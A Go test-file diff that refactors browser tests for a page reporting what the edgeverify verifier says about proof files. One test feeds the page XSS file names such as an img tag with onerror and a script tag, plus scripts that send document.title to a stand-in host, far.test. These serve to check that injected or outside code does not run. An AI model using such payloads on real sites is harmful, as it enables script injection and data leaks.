@@ -91,68 +91,10 @@ func unpacked(t *testing.T, html []byte) (frame, program string) {
 	return packed.ReplaceAllString(string(html), "$1$3"), string(text)
 }
 
-// A run of the page in a browser; see drive.mjs.
-type run struct {
-	Page     string     `json:"page"`
-	Plain    bool       `json:"plain,omitempty"`
-	Language string     `json:"language,omitempty"`
-	Trust    string     `json:"trust,omitempty"`
-	Files    []evidence `json:"files,omitempty"`
-	Drop     bool       `json:"drop,omitempty"`
-	Script   string     `json:"script,omitempty"`
-	Picture  string     `json:"picture,omitempty"`
-	Dark     bool       `json:"dark,omitempty"`
-	Small    bool       `json:"small,omitempty"`
-}
-
-type evidence struct {
-	Name string `json:"name"`
-	Data []byte `json:"data"`
-}
-
-// What the page then shows.
-type shown struct {
-	Language, Trusted, Tally, Text string
-	Secure, Subtle, Came           bool
-	Images, Ticks                  int
-	Said                           any
-	Requests, Errors               []string
-	Articles                       []article
-}
-
-type article struct {
-	File, Verdict, Check, Together, Words, Why, Brief string
-	Files, Proved, Beware, NotProved, Times, Steps    []string
-	Facts                                             [][]string
-	Readings                                          [][]string
-	Charts                                            int
-}
-
-// drive opens the page as often as it is told to. Whatever is done to it, it asks nobody for anything.
-func drive(t *testing.T, runs ...run) (all []shown) {
+// drive opens the page as it is built.
+func drive(t *testing.T, runs ...Run) []Shown {
 	t.Helper()
-	if testing.Short() {
-		t.Skip("starts a browser")
-	}
-	for i := range runs {
-		if runs[i].Page == "" {
-			path, err := filepath.Abs(built)
-			if err != nil {
-				t.Fatal(err)
-			}
-			runs[i].Page = path
-		}
-	}
-	testenv.Browser(t, "drive.mjs", runs, &all)
-	for i, s := range all {
-		if len(s.Requests) > 0 {
-			t.Errorf("run %d asks for %q", i, s.Requests)
-		}
-		if len(s.Errors) > 0 && runs[i].Script == "" {
-			t.Errorf("run %d tells of errors: %q", i, s.Errors)
-		}
-	}
-	return all
+	return Open(t, "../..", runs...)
 }
 
 // A vector is one published case; see its README.
@@ -199,10 +141,10 @@ func groups(all []vector) (groups [][]vector) {
 	return groups
 }
 
-func runOf(group []vector, plain bool) run {
-	r := run{Trust: group[0].Trust, Plain: plain}
+func runOf(group []vector, plain bool) Run {
+	r := Run{Trust: group[0].Trust, Plain: plain}
 	for _, v := range group {
-		r.Files = append(r.Files, evidence{v.name, v.Bytes})
+		r.Files = append(r.Files, File{v.name, v.Bytes})
 	}
 	return r
 }
@@ -211,7 +153,7 @@ func runOf(group []vector, plain bool) run {
 // browsers have no WebCrypto.
 func TestTheVectorsInABrowser(t *testing.T) {
 	all := groups(published(t, "proof", "bundle", "fork"))
-	var runs []run
+	var runs []Run
 	for _, group := range all {
 		runs = append(runs, runOf(group, false), runOf(group, true))
 	}
@@ -224,7 +166,7 @@ func TestTheVectorsInABrowser(t *testing.T) {
 		if s.Subtle == plain || s.Secure == plain {
 			t.Errorf("run %d has WebCrypto: %v", i, s.Subtle)
 		}
-		found := map[string]article{}
+		found := map[string]Article{}
 		for _, a := range s.Articles {
 			if a.Together == "" {
 				found[a.File] = a
@@ -250,9 +192,9 @@ func TestTheVectorsInABrowser(t *testing.T) {
 
 func TestPairsInABrowser(t *testing.T) {
 	all := published(t, "pair")
-	var runs []run
+	var runs []Run
 	for _, v := range all {
-		runs = append(runs, run{Trust: v.Trust, Files: []evidence{{"one", v.Bytes}, {"other", v.Other}}})
+		runs = append(runs, Run{Trust: v.Trust, Files: []File{{"one", v.Bytes}, {"other", v.Other}}})
 	}
 	for i, s := range drive(t, runs...) {
 		together := 0
@@ -270,21 +212,9 @@ func TestPairsInABrowser(t *testing.T) {
 	}
 }
 
-// What edgeverify says of a file, of it.
-type verifier struct {
-	File, Verdict, Message, Check string
-	Proved, Beware, Undone        []string
-	NotProved                     []string `json:"not_proved"`
-	Files                         []string
-	Number, Height                uint64
-	Entry                         *struct {
-		Readings []struct{ Device, Name, Unit string }
-	}
-}
-
 // The page says of each vector what edgeverify says, in the same words. What stands in brackets is in the words of the verifier that
 // found it.
-func saysTheSame(t *testing.T, page []article, said map[string]verifier) (compared int) {
+func saysTheSame(t *testing.T, page []Article, said map[string]Said) (compared int) {
 	t.Helper()
 	for _, a := range page {
 		v, there := said[a.File]
@@ -292,29 +222,12 @@ func saysTheSame(t *testing.T, page []article, said map[string]verifier) (compar
 			continue
 		}
 		compared++
-		if a.Verdict != v.Verdict {
-			t.Errorf("%s: the page says %q, edgeverify %q", a.File, a.Verdict, v.Verdict)
-		}
-		for _, c := range []struct {
-			what       string
-			page, said []string
-		}{{"proved", a.Proved, v.Proved}, {"beware", a.Beware, ended(v.Beware)}, {"not proved", a.NotProved, v.NotProved}} {
-			if !slices.Equal(c.page, c.said) {
-				t.Errorf("%s: %s: the page says\n%s\nedgeverify\n%s", a.File, c.what, strings.Join(c.page, "\n"), strings.Join(c.said, "\n"))
-			}
-		}
+		a.Compare(t, &v)
 		if v.Verdict != "verified" && plainly(a.Why) != plainly(v.Message) {
 			t.Errorf("%s: the page says\n%s\nedgeverify\n%s", a.File, a.Why, v.Message)
 		}
 	}
 	return compared
-}
-
-func ended(all []string) (sentences []string) {
-	for _, s := range all {
-		sentences = append(sentences, s+".")
-	}
-	return sentences
 }
 
 // plainly leaves out what a verifier adds in its own words: what stands in brackets, and behind a colon.
@@ -329,7 +242,7 @@ func plainly(text string) string {
 }
 
 // ask has edgeverify look at vectors of one trust file.
-func ask(t *testing.T, edgeverify string, group []vector) map[string]verifier {
+func ask(t *testing.T, edgeverify string, group []vector) map[string]Said {
 	t.Helper()
 	dir := t.TempDir()
 	trust := filepath.Join(dir, "auditor.trust")
@@ -345,9 +258,9 @@ func ask(t *testing.T, edgeverify string, group []vector) map[string]verifier {
 		args = append(args, file)
 	}
 	output, _ := exec.Command(edgeverify, args...).Output() // its exit code tells of what it found
-	said := map[string]verifier{}
+	said := map[string]Said{}
 	for line := range bytes.Lines(output) {
-		var v verifier
+		var v Said
 		if err := json.Unmarshal(line, &v); err != nil {
 			t.Fatalf("%v: %.200s", err, line)
 		}
@@ -362,12 +275,12 @@ func ask(t *testing.T, edgeverify string, group []vector) map[string]verifier {
 func TestNothingFromElsewhereRuns(t *testing.T) {
 	good := one(t, "proof-good-everything")
 	const evil = `<img src=x onerror=alert(1)>` + "\u202e\x1b[31m.edgeproof"
-	s := drive(t, run{Trust: good.Trust, Files: []evidence{{evil, good.Bytes}, {"<script>alert(2)</script>", []byte(evil)}}},
-		run{Script: `document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="document.title=1"><p style="color:red" onclick="document.title=2">'), document.querySelector('p[onclick]').click(), getComputedStyle(document.querySelector('p[onclick]')).color`},
-		run{Script: `(() => { const s = document.createElement('script'); s.textContent = 'document.title = 3'; document.body.append(s); return document.title })()`},
-		run{Script: `fetch('https://far.test/').then(() => 'came', e => 'no: ' + e.message)`},
-		run{Script: `new Promise(done => { const i = new Image(); i.onload = i.onerror = e => done(e.type); i.src = 'https://far.test/?' + document.title })`},
-		run{Script: `(() => { try { return String(eval('1+1')) } catch (e) { return 'no: ' + e.name } })()`},
+	s := drive(t, Run{Trust: good.Trust, Files: []File{{evil, good.Bytes}, {"<script>alert(2)</script>", []byte(evil)}}},
+		Run{Script: `document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="document.title=1"><p style="color:red" onclick="document.title=2">'), document.querySelector('p[onclick]').click(), getComputedStyle(document.querySelector('p[onclick]')).color`},
+		Run{Script: `(() => { const s = document.createElement('script'); s.textContent = 'document.title = 3'; document.body.append(s); return document.title })()`},
+		Run{Script: `fetch('https://far.test/').then(() => 'came', e => 'no: ' + e.message)`},
+		Run{Script: `new Promise(done => { const i = new Image(); i.onload = i.onerror = e => done(e.type); i.src = 'https://far.test/?' + document.title })`},
+		Run{Script: `(() => { try { return String(eval('1+1')) } catch (e) { return 'no: ' + e.name } })()`},
 	)
 	if s[0].Images != 0 || len(s[0].Articles) != 2 {
 		t.Errorf("%d images, %d files", s[0].Images, len(s[0].Articles))
@@ -444,7 +357,7 @@ func TestLargeFilesInABrowser(t *testing.T) {
 		document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
 	})()`
 	bundle, chain := largeBundle(t, 12_000)
-	s := drive(t, run{Script: dropped}, run{Plain: true, Trust: "chain " + chain, Files: []evidence{{"many.edgebundle", bundle}}})
+	s := drive(t, Run{Script: dropped}, Run{Plain: true, Trust: "chain " + chain, Files: []File{{"many.edgebundle", bundle}}})
 	if len(s[0].Articles) != 1 || s[0].Articles[0].Verdict != "unreadable" || !strings.Contains(s[0].Articles[0].Why, "It has 32.0 MiB, and this page takes files of 32 MiB at most") {
 		t.Errorf("of a file above the limit it says %+v", s[0].Articles)
 	}
@@ -545,8 +458,8 @@ func TestBothLanguagesAreWhole(t *testing.T) {
 // In Chinese no sentence of the page is left in English.
 func TestThePageInChinese(t *testing.T) {
 	good := one(t, "proof-good-everything")
-	s := drive(t, run{Language: "zh-CN", Trust: good.Trust, Files: []evidence{{"a.edgeproof", good.Bytes}}},
-		run{Language: "de-DE"}, run{Language: "de-DE", Script: `document.querySelector('[data-language=zh]').click(), document.documentElement.lang`})
+	s := drive(t, Run{Language: "zh-CN", Trust: good.Trust, Files: []File{{"a.edgeproof", good.Bytes}}},
+		Run{Language: "de-DE"}, Run{Language: "de-DE", Script: `document.querySelector('[data-language=zh]').click(), document.documentElement.lang`})
 	if s[0].Language != "zh-Hans" || s[1].Language != "en" || s[2].Language != "zh-Hans" {
 		t.Errorf("languages %s, %s, %s", s[0].Language, s[1].Language, s[2].Language)
 	}
